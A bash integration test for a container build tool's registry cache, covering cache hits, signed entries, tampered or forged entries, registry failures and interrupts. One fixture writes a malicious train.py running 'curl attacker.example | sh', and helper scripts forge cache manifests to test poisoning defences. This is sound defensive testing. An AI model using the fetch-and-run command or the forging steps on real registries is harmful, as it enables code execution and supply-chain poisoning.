#!/usr/bin/env bash
# The registry as the build cache (build --cache-from/--cache-to, docs/registry-cache.md),
# against Debian's docker-registry (distribution 2.8) on 127.0.0.1:
# - a build with --cache-to stores each layer as an OCI artifact manifest (artifactType,
#   the pushed empty config, [blob, record]) that skopeo reads;
# - a fresh checkout in another directory, on an empty local cache, hits every layer
#   (content keys, not stat keys), builds nothing and gives the cold build's manifest
#   digest; a same-registry push mounts the layers from the cache repository;
# - a code change rebuilds only its layer; the env variables work like the flags;
# - signed entries: --cache-verify-key ignores unsigned, forged and re-tagged entries;
# - the forged-entry chain: nothing unverified is signed, stored again or reused by a
#   build that verifies or signs; provenance names each reused layer's cache origin;
# - a missing blob, an unreachable cache and a read-only registry are warnings,
#   counted in --json, and the build goes on; a cache that hangs or answers 5xx is
#   skipped after its first failure (lookups have a deadline of their own); a registry
#   without artifacts gets the fallback form; Ctrl-C during a background store exits
#   130 and leaves nothing half-written;
# - the Paddle-shaped base: a push-only build on an empty runner reads the base's view
#   from the cache and downloads under 1 MiB from the base's registry, mounting every
#   base blob;
# - cache ls / cache prune list and delete entries by reachability.
source "$(dirname "$0")/../support/common.sh"
# shellcheck source=../support/registry/registry.sh
source "$SUPPORT/registry/registry.sh"
cd "$WORK"
trap registry_stop_all EXIT
REGISTRY_OVERRIDES="REGISTRY_STORAGE_DELETE_ENABLED=true" registry_start reg open "$WORK/srv"
C=$REG_HOST/team/app/cache
js() { /usr/bin/python3 -c "import json,sys; j=json.load(open(sys.argv[1])); $2" "$1"; }
statuses() { js "$1" 'print(" ".join(l["status"] + ("+cache" if "cache" in l else "") for l in j["layers"] if l["kind"]!="base"))'; }
export -f js statuses

# ---- cold build, writing the cache ---------------------------------------------------
make_project p
"$PI" build p/spec.yaml --revision r --cache-dir c1 --push "$REG_HOST/team/app:1" --cache-to "$C" \
  --json >cold.json 2>cold.err || { cat cold.err; exit 1; }
check "cold build: every layer built, three entries stored" js cold.json \
  'c=j["registry_cache"]; assert [l["status"] for l in j["layers"]]==["rebuilt"]*3, j["layers"]; assert c["stored"]==3 and c["warnings"]==[], c'
check "... the push mounts the layers the cache store uploaded (each uploaded once)" js cold.json \
  'how=[b["how"] for b in j["registry"]["blobs"] if b["repository"]=="team/app"]; assert how.count("mounted from team/app/cache")==3, how'
check "the entry is an OCI artifact manifest with the empty config, [blob, record]" bash -c "
  tag=\$(skopeo list-tags --tls-verify=false docker://$C | /usr/bin/python3 -c 'import json,sys; print(sorted(t for t in json.load(sys.stdin)[\"Tags\"] if t.startswith(\"layer-\"))[0])')
  skopeo inspect --raw --tls-verify=false docker://$C:\$tag >entry.json
  /usr/bin/python3 -c '
import json; m=json.load(open(\"entry.json\"))
assert m[\"artifactType\"]==\"application/vnd.paddle-image.cache.v1\", m
assert m[\"config\"][\"mediaType\"]==\"application/vnd.oci.empty.v1+json\" and m[\"config\"][\"size\"]==2
assert [l[\"mediaType\"] for l in m[\"layers\"]][1]==\"application/vnd.paddle-image.cache.record.v1+json\"
assert m[\"annotations\"][\"io.paddle-image.cache.kind\"]==\"layer\"'
  curl -sf http://$C/../../../v2/team/app/cache/blobs/sha256:44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a -o /dev/null ||
  curl -sf $REG_URL/v2/team/app/cache/blobs/sha256:44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a | grep -qx '{}'"

# ---- a fresh runner: another checkout, an empty local cache --------------------------
mkdir -p elsewhere && cp -r p elsewhere/q && touch elsewhere/q/src/train.py
"$PI" build elsewhere/q/spec.yaml --revision r --cache-dir c2 --push "$REG_HOST/team/other:2" --cache-from "$C" \
  --json >fresh.json 2>fresh.err || { cat fresh.err; exit 1; }
check "fresh runner: every layer from the registry cache, none built" bash -c \
  "test \"\$(statuses fresh.json)\" = 'reused+cache reused+cache reused+cache'"
check "... the same manifest digest as the cold build" bash -c \
  "test \"\$(js fresh.json 'print(j[\"digest\"])')\" = \"\$(js cold.json 'print(j[\"digest\"])')\""
check "... the push mounted the layers from the cache repository (uploaded: the config; read: the records)" js fresh.json \
  'r=j["registry"]; assert r["blobs_mounted"]==3 and r["blobs_uploaded"]==1 and r["bytes_downloaded"]<65536, r'
check "... no layer was downloaded into the local cache" bash -c \
  "! ls c2/blobs/sha256 | grep -qf <(js fresh.json 'print(\"\\n\".join(l[\"digest\"][7:] for l in j[\"layers\"]))')"
check "... the layers say they came from an unverified cache" js fresh.json \
  'assert all(l["cache"]["verified"] is False and l["cache"]["repository"].endswith("/team/app/cache") for l in j["layers"]), j["layers"]'

# A local output needs the bytes: downloaded once, then the local cache has them.
"$PI" build elsewhere/q/spec.yaml --revision r --cache-dir c3 -o oci:lay:x --cache-from "$C" --json \
  >local.json 2>local.err || { cat local.err; exit 1; }
check "a local output downloads the cached blobs once and umoci reads the layout" bash -c \
  "umoci stat --image lay:x >/dev/null && test \"\$(js local.json 'print(j[\"digest\"])')\" = \"\$(js cold.json 'print(j[\"digest\"])')\""
"$PI" build elsewhere/q/spec.yaml --revision r --cache-dir c3 -o oci:lay:y --cache-from "$C" --json >local2.json 2>local2.err
check "... the next build hits the local cache (the registry is not asked), each layer naming its origin" js local2.json \
  'assert j["registry_cache"]["hits"]==0 and j["registry_cache"]["misses"]==0 and all(l["cache"]["origin"]=="local" and l["cache"]["verified"] is False for l in j["layers"]), j["layers"]'

# ---- a code change on a fresh runner, through the environment variables --------------
printf 'import purepkg\nprint(purepkg.hello(), 2)\n' >elsewhere/q/src/train.py
PADDLE_IMAGE_CACHE_FROM="$C" PADDLE_IMAGE_CACHE_TO="$C" "$PI" build elsewhere/q/spec.yaml --revision r \
  --cache-dir c4 --push "$REG_HOST/team/app:3" --json >change.json 2>change.err || { cat change.err; exit 1; }
check "a code change: deps and models from the cache, the app layer built and stored" bash -c \
  "test \"\$(statuses change.json)\" = 'reused+cache reused+cache rebuilt' &&
   js change.json 'c=j[\"registry_cache\"]; assert c[\"stored\"]==1 and c[\"present\"]==2, c'"

# ---- a no-change rebuild where the cache was written: off the network -----------------
# c4 settled all three entries at $C (two hits, one store): its markers say so for 24 h.
# A local output first downloads the two hits' blobs; then every layer is a local hit.
n_cache() { grep -c '/v2/team/app/cache/' "$REG_LOG" || true; }
export -f n_cache
export REG_LOG
"$PI" build elsewhere/q/spec.yaml --revision r --cache-dir c4 -o oci:lay4:z --cache-from "$C" --cache-to "$C" \
  -q 2>same.err || { cat same.err; exit 1; }
before=$(n_cache)
"$PI" build elsewhere/q/spec.yaml --revision r --cache-dir c4 -o oci:lay4:z --cache-from "$C" --cache-to "$C" \
  --json >same.json 2>same.err || { cat same.err; exit 1; }
check "a no-change rebuild with --cache-to where the entries were settled asks the registry nothing" bash -c \
  "test \"\$(n_cache)\" = '$before' &&
   js same.json 'c=j[\"registry_cache\"]; assert c[\"present\"]==3 and c[\"stored\"]==0 and c[\"hits\"]==0, c'"
# A day later the registry is asked again, and an entry deleted meanwhile is written again.
app_digest=$(js change.json 'print(j["layers"][-1]["digest"])')
app_tag=$(basename "$(grep -rl "^$app_digest " c4/registry-cache)")
app_manifest=$(curl -sfI "$REG_URL/v2/team/app/cache/manifests/$app_tag" -H 'Accept: application/vnd.oci.image.manifest.v1+json' |
  tr -d '\r' | sed -n 's/^[Dd]ocker-[Cc]ontent-[Dd]igest: //p')
curl -sf -X DELETE "$REG_URL/v2/team/app/cache/manifests/$app_manifest" >/dev/null
find c4/registry-cache -type f -exec touch -d '25 hours ago' {} +
"$PI" build elsewhere/q/spec.yaml --revision r --cache-dir c4 -o oci:lay4:z --cache-to "$C" \
  --json >aged.json 2>aged.err || { cat aged.err; exit 1; }
check "... after 24 h it asks again: the deleted entry is written again, the others are there" bash -c \
  "test -n '$app_tag' && test -n '$app_manifest' && test \"\$(n_cache)\" -gt '$before' &&
   js aged.json 'c=j[\"registry_cache\"]; assert c[\"present\"]==2 and c[\"stored\"]==1, c'"
# ---- signed entries ------------------------------------------------------------------
export COSIGN_PASSWORD=pw
"$PI" key generate -o k1 >/dev/null
[[ -f k1.key ]] || { echo "cannot make a key pair"; ls; exit 1; }
S=$REG_HOST/team/signed/cache
"$PI" build p/spec.yaml --revision r --cache-dir c5 --push "$REG_HOST/team/signed:1" --cache-to "$S" \
  --cache-sign-key k1.key --json >signed.json 2>signed.err || { cat signed.err; exit 1; }
"$PI" build elsewhere/q/spec.yaml --revision r --cache-dir c6 --push "$REG_HOST/team/signed:2" --cache-from "$S" \
  --cache-verify-key k1.pub --json >verified.json 2>verified.err || { cat verified.err; exit 1; }
check "signed entries verify: the unchanged layers are hits marked verified" js verified.json \
  'ls=[l for l in j["layers"] if "cache" in l]; assert len(ls)==2 and all(l["cache"]["verified"] for l in ls), j["layers"]'
"$PI" build elsewhere/q/spec.yaml --revision r --cache-dir c7 --push "$REG_HOST/team/app:4" --cache-from "$C" \
  --cache-verify-key k1.pub --json >unsigned.json 2>unsigned.err || { cat unsigned.err; exit 1; }
check "--cache-verify-key ignores unsigned entries with a warning, and builds" bash -c \
  "test \"\$(statuses unsigned.json)\" = 'rebuilt rebuilt rebuilt' && grep -q 'not signed; ignored' unsigned.err &&
   js unsigned.json 'assert len(j[\"registry_cache\"][\"warnings\"])==3'"
# A re-tagged entry: a validly signed one put under the tag of another key.
/usr/bin/python3 - "$REG_URL" team/signed/cache <<'PY'
import json, sys, urllib.request
url, repo = sys.argv[1], sys.argv[2]
tags = sorted(t for t in json.load(urllib.request.urlopen(f"{url}/v2/{repo}/tags/list"))["tags"] if t.startswith("layer-"))
acc = "application/vnd.oci.image.manifest.v1+json"
get = lambda t: urllib.request.urlopen(urllib.request.Request(f"{url}/v2/{repo}/manifests/{t}", headers={"Accept": acc})).read()
a, b = get(tags[0]), get(tags[1])
for tag, body in ((tags[1], a), (tags[0], b)):  # swap two entries' manifests
    urllib.request.urlopen(urllib.request.Request(f"{url}/v2/{repo}/manifests/{tag}", data=body, method="PUT",
                                                  headers={"Content-Type": acc}))
PY
"$PI" build p/spec.yaml --revision r --cache-dir c8 --push "$REG_HOST/team/signed:3" --cache-from "$S" \
  --cache-verify-key k1.pub --json >retag.json 2>retag.err || { cat retag.err; exit 1; }
check "validly signed entries re-tagged under other keys are refused, and the build's digest is the cold one" bash -c \
  "test \$(grep -c 'another key' retag.err) -ge 2 &&
   test \"\$(js retag.json 'print(j[\"digest\"])')\" = \"\$(js signed.json 'print(j[\"digest\"])')\""
# A forged entry: another key's signature.
"$PI" key generate -o k2 >/dev/null
F=$REG_HOST/team/forged/cache
"$PI" build p/spec.yaml --revision r --cache-dir c9 -o oci:forged --cache-to "$F" --cache-sign-key k2.key -q >/dev/null
"$PI" build p/spec.yaml --revision r --cache-dir c10 -o oci:forged2 --cache-from "$F" --cache-verify-key k1.pub \
  --json >forged.json 2>forged.err || { cat forged.err; exit 1; }
check "entries signed by another key are ignored" bash -c \
  "test \"\$(statuses forged.json)\" = 'rebuilt rebuilt rebuilt' && test \$(grep -c 'does not verify' forged.err) = 3"

# ---- the forged-entry chain: no laundering ----------------------------------------------
# An attacker who can write the open cache A puts its own app layer under the victim's
# key (unsigned). An unsigned reader takes it (reported unverified); a writer that signs
# (--cache-sign-key, no --cache-verify-key) must not take it, nor its copy in a local
# cache, nor sign it into B; a reader verifying B's entries gets the victim's bytes.
A=$REG_HOST/team/chain/open
B=$REG_HOST/team/chain/signed
mkdir -p chain && cp -r p chain/v && cp -r p chain/evil
printf 'import os\nos.system("curl attacker.example | sh")\n' >chain/evil/src/train.py
"$PI" build chain/v/spec.yaml --revision r --cache-dir x1 -o oci:x-v --cache-to "$A" --json -q >victim.json
"$PI" build chain/evil/spec.yaml --revision r --cache-dir x2 -o oci:x-e --cache-to "$A" --json -q >evil.json
app_of() { js "$1" 'print([l["digest"] for l in j["layers"] if l["name"]=="app"][0])'; }
export -f app_of
GOOD=$(app_of victim.json)
EVIL=$(app_of evil.json)
/usr/bin/python3 - "$REG_URL" team/chain/open "$GOOD" "$EVIL" <<'PY'
import hashlib, json, sys, urllib.request
url, repo, good, evil = sys.argv[1:]
acc = "application/vnd.oci.image.manifest.v1+json"
def get(path, accept=acc):
    return urllib.request.urlopen(urllib.request.Request(url + path, headers={"Accept": accept})).read()
entries = {}
for t in json.loads(get(f"/v2/{repo}/tags/list"))["tags"]:
    if t.startswith("layer-"):
        m = json.loads(get(f"/v2/{repo}/manifests/{t}"))
        rec = json.loads(get(f"/v2/{repo}/blobs/{m['layers'][1]['digest']}", "*/*"))
        entries[rec["blob"]["digest"]] = (t, m, rec)
tag, m, rec = entries[good]
_, em, erec = entries[evil]
rec["blob"], rec["record"] = erec["blob"], erec["record"]  # the victim's key, the attacker's bytes
body = json.dumps(rec, sort_keys=True, separators=(",", ":")).encode()
d = "sha256:" + hashlib.sha256(body).hexdigest()
loc = urllib.request.urlopen(urllib.request.Request(f"{url}/v2/{repo}/blobs/uploads/", method="POST")).headers["Location"]
loc = (loc if loc.startswith("http") else url + loc) + ("&" if "?" in loc else "?") + "digest=" + d
urllib.request.urlopen(urllib.request.Request(loc, data=body, method="PUT", headers={"Content-Type": "application/octet-stream"}))
m["layers"] = [em["layers"][0], {"mediaType": m["layers"][1]["mediaType"], "digest": d, "size": len(body)}]
urllib.request.urlopen(urllib.request.Request(f"{url}/v2/{repo}/manifests/{tag}", data=json.dumps(m).encode(), method="PUT", headers={"Content-Type": acc}))
PY
"$PI" build chain/v/spec.yaml --revision r --cache-dir r1 -o oci:c-r1 --cache-from "$A" --json >r1.json 2>r1.err ||
  { cat r1.err; exit 1; }
check "chain: the forged entry reaches an unsigned reader, reported unverified" bash -c \
  "test \"\$(app_of r1.json)\" = '$EVIL' && js r1.json 'assert all(l[\"cache\"][\"verified\"] is False for l in j[\"layers\"])'"
"$PI" build chain/v/spec.yaml --revision r --cache-dir w1 -o oci:c-w1 --cache-from "$A" --cache-to "$B" \
  --cache-sign-key k1.key --json >w1.json 2>w1.err || { cat w1.err; exit 1; }
check "chain: a signing writer without a verify key ignores the unsigned entries, builds, signs its own" bash -c \
  "test \"\$(app_of w1.json)\" = '$GOOD' && test \$(grep -c 'not signed; ignored' w1.err) = 3 &&
   test \"\$(statuses w1.json)\" = 'rebuilt rebuilt rebuilt' && js w1.json 'assert j[\"registry_cache\"][\"stored\"]==3'"
"$PI" build chain/v/spec.yaml --revision r --cache-dir r1 -o oci:c-w2 --cache-from "$A" --cache-to "$B" \
  --cache-sign-key k1.key --json >w2.json 2>w2.err || { cat w2.err; exit 1; }
check "chain: ... nor on the unsigned reader's local cache: its copies of unverified entries are built again" bash -c \
  "test \"\$(app_of w2.json)\" = '$GOOD' && test \$(grep -c 'came from an unverified registry cache entry' w2.err) = 3 &&
   test \"\$(statuses w2.json)\" = 'rebuilt rebuilt rebuilt'"
mkdir -p chain/far && cp -r p chain/far/v
"$PI" build chain/far/v/spec.yaml --revision r --cache-dir v1 -o oci:c-v1:x --cache-from "$B" \
  --cache-verify-key k1.pub --json >v1.json 2>v1.err || { cat v1.err; exit 1; }
check "chain: a verifying reader of B gets verified hits with the victim's app layer" bash -c \
  "test \"\$(app_of v1.json)\" = '$GOOD' && test \"\$(statuses v1.json)\" = 'reused+cache reused+cache reused+cache' &&
   js v1.json 'assert all(l[\"cache\"][\"verified\"] for l in j[\"layers\"])'"
check "chain: ... whose bytes are the victim's train.py, not the attacker's" bash -c \
  "f=c-v1/blobs/sha256/${GOOD#sha256:}; test -f \$f && tar xzOf \$f app/train.py | cmp - chain/v/src/train.py"
"$PI" build chain/v/spec.yaml --revision r --cache-dir r3 -o oci:c-r3a --cache-from "$A" -q
"$PI" build chain/v/spec.yaml --revision r --cache-dir r3 -o oci:c-r3 --cache-from "$B" --cache-verify-key k1.pub \
  --json >r3.json 2>r3.err || { cat r3.err; exit 1; }
check "chain: a verifying build on an unsigned reader's cache takes B's verified entries, not its unverified copies" bash -c \
  "test \"\$(app_of r3.json)\" = '$GOOD' && test \$(grep -c 'came from an unverified registry cache entry' r3.err) = 3 &&
   test \"\$(statuses r3.json)\" = 'reused+cache reused+cache reused+cache'"
"$PI" build chain/v/spec.yaml --revision r --cache-dir r4 -o oci:c-r4 --cache-from "$A" -q
"$PI" build chain/v/spec.yaml --revision r --cache-dir r4 -o oci:c-s4 --cache-from "$A" --sign --key k1.key \
  --json >s4.json 2>s4.err || { cat s4.err; exit 1; }
check "chain: --sign without a verify key reads no registry cache and builds its unverified local copies again" bash -c \
  "test \"\$(app_of s4.json)\" = '$GOOD' && grep -q 'the registry cache is not read' s4.err &&
   test \"\$(statuses s4.json)\" = 'rebuilt rebuilt rebuilt'"
"$PI" build chain/far/v/spec.yaml --revision r --cache-dir v1 -o oci:c-vs --cache-from "$B" --cache-verify-key k1.pub \
  --sign --key k1.key --json >vs.json 2>vs.err || { cat vs.err; exit 1; }
/usr/bin/python3 - c-vs "$(js vs.json 'print(j["digest"])')" "$B" <<'PY' >vs-prov.txt || true
import base64, json, sys
lay, d, repo = sys.argv[1:]
idx = json.load(open(lay + "/index.json"))
att = [m for m in idx["manifests"] if m.get("annotations", {}).get("org.opencontainers.image.ref.name") == d.replace(":", "-") + ".att"][0]
man = json.load(open(lay + "/blobs/sha256/" + att["digest"][7:]))
for l in man["layers"]:
    st = json.loads(base64.b64decode(json.load(open(lay + "/blobs/sha256/" + l["digest"][7:]))["payload"]))
    if st["predicateType"] == "https://slsa.dev/provenance/v1":
        bp = st["predicate"]["runDetails"]["byproducts"]
        mine = [b for b in bp if b.get("annotations", {}).get("kind") in ("wheels", "files", "data")]
        assert len(mine) == 3, bp
        for b in mine:
            a = b["annotations"]
            assert a["cacheOrigin"] == "local" and a["cacheRepository"] == repo and a["cacheVerified"] is True, a
        print("ok")
PY
check "chain: the provenance of a signed build names each reused layer's cache origin" grep -qx ok vs-prov.txt

# ---- damaged unverified entries: checked against their record before use ------------
# A record whose media type says zstd for a gzip blob, or whose diff_id is wrong: the
# hit is refused with a warning and the layer built, locally and push-only alike, so the
# image is the cold build's (umoci reads it).
D=$REG_HOST/team/damaged/cache
"$PI" build p/spec.yaml --revision r --cache-dir d0 -o oci:dmg0:x --cache-to "$D" --json -q >dmg0.json
tamper() { # LAYER_NAME FIELD VALUE: rewrites that layer's entry's record in $D (unsigned)
  /usr/bin/python3 - "$REG_URL" team/damaged/cache "$(js dmg0.json "print([l['digest'] for l in j['layers'] if l['name']=='$1'][0])")" "$2" "$3" <<'PY'
import hashlib, json, sys, urllib.request
url, repo, digest, field, value = sys.argv[1:]
acc = "application/vnd.oci.image.manifest.v1+json"
def get(path, accept=acc):
    return urllib.request.urlopen(urllib.request.Request(url + path, headers={"Accept": accept})).read()
for t in json.loads(get(f"/v2/{repo}/tags/list"))["tags"]:
    m = json.loads(get(f"/v2/{repo}/manifests/{t}"))
    rec = json.loads(get(f"/v2/{repo}/blobs/{m['layers'][1]['digest']}", "*/*"))
    if rec["blob"]["digest"] != digest:
        continue
    rec["blob"][field] = value
    if field == "media_type":
        m["layers"][0]["mediaType"] = value
    body = json.dumps(rec, sort_keys=True, separators=(",", ":")).encode()
    d = "sha256:" + hashlib.sha256(body).hexdigest()
    loc = urllib.request.urlopen(urllib.request.Request(f"{url}/v2/{repo}/blobs/uploads/", method="POST")).headers["Location"]
    loc = (loc if loc.startswith("http") else url + loc) + ("&" if "?" in loc else "?") + "digest=" + d
    urllib.request.urlopen(urllib.request.Request(loc, data=body, method="PUT", headers={"Content-Type": "application/octet-stream"}))
    m["layers"][1] = {"mediaType": m["layers"][1]["mediaType"], "digest": d, "size": len(body)}
    urllib.request.urlopen(urllib.request.Request(f"{url}/v2/{repo}/manifests/{t}", data=json.dumps(m).encode(), method="PUT", headers={"Content-Type": acc}))
    print(t)
PY
}
tamper models media_type application/vnd.oci.image.layer.v1.tar+zstd >/dev/null
tamper app diff_id "sha256:$(printf x | sha256sum | cut -d' ' -f1)" >/dev/null
mkdir -p elsewhere && cp -r p elsewhere/dmg
"$PI" build elsewhere/dmg/spec.yaml --revision r --cache-dir d1 --push "$REG_HOST/team/dmg:1" --cache-from "$D" \
  --json >dmg1.json 2>dmg1.err || { cat dmg1.err; exit 1; }
check "damaged entries, push-only: the wrong media type and the wrong diff_id are refused, those layers built" bash -c \
  "grep -q 'does not match its record: is not zstd' dmg1.err && grep -q 'is damaged: its blob .* its record.s diff_id' dmg1.err &&
   test \"\$(statuses dmg1.json)\" = 'reused+cache rebuilt rebuilt' &&
   test \"\$(js dmg1.json 'print(j[\"digest\"])')\" = \"\$(js dmg0.json 'print(j[\"digest\"])')\""
"$PI" build elsewhere/dmg/spec.yaml --revision r --cache-dir d2 -o oci:dmg2:x --cache-from "$D" \
  --json >dmg2.json 2>dmg2.err || { cat dmg2.err; exit 1; }
check "damaged entries, a local output: the same, and umoci unpacks the image" bash -c \
  "test \"\$(statuses dmg2.json)\" = 'reused+cache rebuilt rebuilt' &&
   test \"\$(js dmg2.json 'print(j[\"digest\"])')\" = \"\$(js dmg0.json 'print(j[\"digest\"])')\" &&
   umoci unpack --rootless --image dmg2:x dmg2-rootfs >/dev/null && test -f dmg2-rootfs/rootfs/app/train.py"

# ---- failures are warnings ------------------------------------------------------------
blob=$(js cold.json 'print([l["digest"] for l in j["layers"] if l["name"]=="models"][0])')
curl -sf -X DELETE "$REG_URL/v2/team/app/cache/blobs/$blob" -o /dev/null
"$PI" build elsewhere/q/spec.yaml --revision r --cache-dir c11 -o oci:nb --cache-from "$C" --json \
  >noblob.json 2>noblob.err || { cat noblob.err; exit 1; }
check "an entry whose blob is missing is ignored with a warning and the layer is built" bash -c \
  "grep -q 'is missing; ignored' noblob.err && js noblob.json 'assert [l[\"status\"] for l in j[\"layers\"]][1]==\"rebuilt\"'"
"$PI" build p/spec.yaml --revision r --cache-dir c12 -o oci:down --cache-from 127.0.0.1:9/x/cache \
  --cache-to 127.0.0.1:9/x/cache --json >down.json 2>down.err
check "a cache that refuses connections: the build succeeds, one warning, the host not asked again" bash -c \
  "js down.json 'c=j[\"registry_cache\"]; assert c[\"hits\"]==0 and len(c[\"warnings\"])==1 and c[\"skipped\"]==5, c' &&
   grep -q 'not asked again in this build' down.err"

# A cache registry that hangs (accepts, never answers) or answers 5xx: its first lookup
# fails within the lookup deadline (10 s), it is skipped for the rest of the build, and
# the build takes a cold build's time plus at most 30 s, with the cold digest.
proxy_start hp "$REG_HOST" "$WORK/srv"
proxy_rules hp '{"path": "^/v2/", "action": "hang", "times": -1}'
mkdir -p hang && cp -r p hang/p && printf 'import purepkg\nprint(purepkg.hello(), "hang")\n' >hang/p/src/train.py
t0=$SECONDS
"$PI" build hang/p/spec.yaml --revision r --cache-dir h0 -o oci:hang-cold -q --json >hang-cold.json
cold_s=$((SECONDS - t0))
t0=$SECONDS
"$PI" build hang/p/spec.yaml --revision r --cache-dir h1 -o oci:hang-out --cache-from "$HP_HOST/team/app/cache" \
  --cache-to "$HP_HOST/team/app/cache" --insecure-registry "$HP_HOST" --json >hang.json 2>hang.err ||
  { cat hang.err; exit 1; }
hang_s=$((SECONDS - t0))
check "a hung cache registry: the build finishes within a cold build's time + 30 s (${hang_s} s, cold ${cold_s} s)" bash -c \
  "test $hang_s -le $((cold_s + 30)) && test \"\$(js hang.json 'print(j[\"digest\"])')\" = \"\$(js hang-cold.json 'print(j[\"digest\"])')\" &&
   js hang.json 'c=j[\"registry_cache\"]; assert len(c[\"warnings\"])==1 and c[\"skipped\"]>=5 and c[\"stored\"]==0, c' &&
   grep -q 'not asked again in this build' hang.err && grep -q 'hang' '$HP_PLOG'"
proxy_rules hp '{"path": "^/v2/team/app/cache/", "action": "status", "code": 503, "times": -1}'
t0=$SECONDS
"$PI" build hang/p/spec.yaml --revision r --cache-dir h2 -o oci:h503 --cache-from "$HP_HOST/team/app/cache" \
  --cache-to "$HP_HOST/team/app/cache" --insecure-registry "$HP_HOST" --json >h503.json 2>h503.err ||
  { cat h503.err; exit 1; }
h503_s=$((SECONDS - t0))
check "a cache repository answering 503: one warning, skipped after its first failure (${h503_s} s)" bash -c \
  "test $h503_s -le $((cold_s + 30)) && js h503.json 'c=j[\"registry_cache\"]; assert len(c[\"warnings\"])==1 and c[\"skipped\"]>=5, c' &&
   test \$(grep -c ' 503 ' '$HP_PLOG') -le 2"
proxy_rules hp ''

# A registry without OCI 1.1 artifacts refuses the artifact form (400 MANIFEST_INVALID,
# or 415): the fallback form is written, and read back by a fresh runner.
proxy_start ap "$REG_HOST" "$WORK/srv"
proxy_rules ap '{"method": "PUT", "path": "/manifests/", "body_has": "artifactType", "action": "status", "code": 400, "body": "{\"errors\":[{\"code\":\"MANIFEST_INVALID\",\"message\":\"artifactType is not supported\"}]}", "headers": {"Content-Type": "application/json"}, "times": -1}'
FB=$AP_HOST/team/fallback/cache
"$PI" build p/spec.yaml --revision r --cache-dir f1 -o oci:fb1 --cache-to "$FB" --insecure-registry "$AP_HOST" \
  --json >fb1.json 2>fb1.err || { cat fb1.err; exit 1; }
check "a registry refusing artifact manifests (400 MANIFEST_INVALID) gets the fallback form of every entry" bash -c \
  "js fb1.json 'c=j[\"registry_cache\"]; assert c[\"stored\"]==3 and c[\"warnings\"]==[], c' &&
   test \$(grep -c 'PUT /v2/team/fallback/cache/manifests/.* status=400' '$AP_PLOG') = 3 &&
   test \$(grep -c 'PUT /v2/team/fallback/cache/manifests/.* status=201' '$AP_PLOG') = 3"
check "... an entry without artifactType, its config of the fallback type" bash -c "
  tag=\$(skopeo list-tags --tls-verify=false docker://$REG_HOST/team/fallback/cache | /usr/bin/python3 -c 'import json,sys; print(sorted(json.load(sys.stdin)[\"Tags\"])[0])')
  skopeo inspect --raw --tls-verify=false docker://$REG_HOST/team/fallback/cache:\$tag | /usr/bin/python3 -c '
import json,sys; m=json.load(sys.stdin)
assert \"artifactType\" not in m and m[\"config\"][\"mediaType\"]==\"application/vnd.paddle-image.cache.config.v1+json\", m'"
cp -r p elsewhere/fb
"$PI" build elsewhere/fb/spec.yaml --revision r --cache-dir f2 -o oci:fb2 --cache-from "$FB" --insecure-registry "$AP_HOST" \
  --json >fb2.json 2>fb2.err || { cat fb2.err; exit 1; }
check "... which a fresh runner reads back: every layer a hit, the cold digest" bash -c \
  "test \"\$(statuses fb2.json)\" = 'reused+cache reused+cache reused+cache' &&
   test \"\$(js fb2.json 'print(j[\"digest\"])')\" = \"\$(js fb1.json 'print(j[\"digest\"])')\""
proxy_rules ap '{"method": "PUT", "path": "/manifests/", "body_has": "artifactType", "action": "status", "code": 415, "times": -1}'
"$PI" build p/spec.yaml --revision r --cache-dir f3 -o oci:fb3 --cache-to "$AP_HOST/team/fallback415/cache" \
  --insecure-registry "$AP_HOST" --json >fb3.json 2>fb3.err || { cat fb3.err; exit 1; }
check "... and one answering 415 too" bash -c \
  "js fb3.json 'c=j[\"registry_cache\"]; assert c[\"stored\"]==3 and c[\"warnings\"]==[], c' &&
   test \$(grep -c 'PUT /v2/team/fallback415/cache/manifests/.* status=201' '$AP_PLOG') = 3"
proxy_rules ap ''
check "a tag or digest in --cache-from is a usage error naming the flag" bash -c \
  "! '$PI' build p/spec.yaml --cache-from $C:tag -o oci:u 2>u.err; grep -q -- '--cache-from' u.err"

# A read-only registry refuses the entries: warnings, and the build still succeeds.
REGISTRY_OVERRIDES='REGISTRY_STORAGE_MAINTENANCE_READONLY={"enabled":true}' registry_start ro open "$WORK/srv"
"$PI" build p/spec.yaml --revision r --cache-dir c13 -o oci:ro --cache-to "$RO_HOST/team/app/cache" --json \
  >ro.json 2>ro.err
check "a registry that refuses writes: warnings counted, nothing stored, the build succeeds" bash -c \
  "js ro.json 'c=j[\"registry_cache\"]; assert c[\"stored\"]==0 and len(c[\"warnings\"])==3, c' && grep -q 'not written' ro.err"

# Ctrl-C while an entry's blob uploads (stores run in the background): exit 130, nothing
# half-written kept, and the same command then completes.
proxy_start fp "$REG_HOST" "$WORK/srv"
mkdir -p big/models && cp -r p/wheels p/src p/spec.yaml big/ && head -c 3000000 /dev/urandom >big/models/weights.bin
proxy_rules fp '{"method": "PUT", "path": "/v2/team/int/cache/blobs/uploads/", "action": "throttle", "rate": 262144, "after_bytes": 65536, "times": -1}'
set -m
"$PI" build big/spec.yaml --revision r --cache-dir c14 -o oci:int --cache-to "$FP_HOST/team/int/cache" >int.out 2>int.err &
pid=$!
set +m
for ((i = 0; i < 300; i++)); do grep -q 'throttled:' "$FP_PLOG" && break; sleep 0.1; done
kill -INT "$pid"
rc=0
wait "$pid" || rc=$?
check "SIGINT during a cache store: exit 130, no temporary file left" bash -c \
  "test $rc = 130 && grep -q 'interrupted (SIGINT)' int.err && ! find c14 -name '.*.tmp-*' -o -path '*/staging/*' | grep -q ."
proxy_rules fp ''
check "... the same command then completes and stores every entry" bash -c \
  "'$PI' build big/spec.yaml --revision r --cache-dir c14 -o oci:int --cache-to '$FP_HOST/team/int/cache' --json >int2.json &&
   js int2.json 'c=j[\"registry_cache\"]; assert c[\"stored\"]+c[\"present\"]==3 and c[\"warnings\"]==[], c'"

# ---- the Paddle-shaped base: a push-only build on an empty runner reads no base layer ----
[[ -d "$BASE_ROOTFS" ]] || { echo "missing fixture $BASE_ROOTFS (run scripts/test.sh)"; exit 1; }
TAG=2.6.1-gpu-cuda12.0-cudnn8.9-trt8.6
R=$REG_HOST/paddlepaddle/paddle
/usr/bin/python3 "$SUPPORT/make-paddle-base.py" pbase "$BASE_ROOTFS" "$TAG" --push "$R" >/dev/null
mkdir -p pad/work && echo work >pad/work/notes.txt
cat >pad/spec.yaml <<YAML
image: {name: example.com/team/ocr, tags: [v1]}
base: $R:$TAG
layers:
  - name: app
    files:
      - {from: work/, to: /home/paddle/work/, owner: "1000:1000"}
YAML
P=$REG_HOST/team/ocr/cache
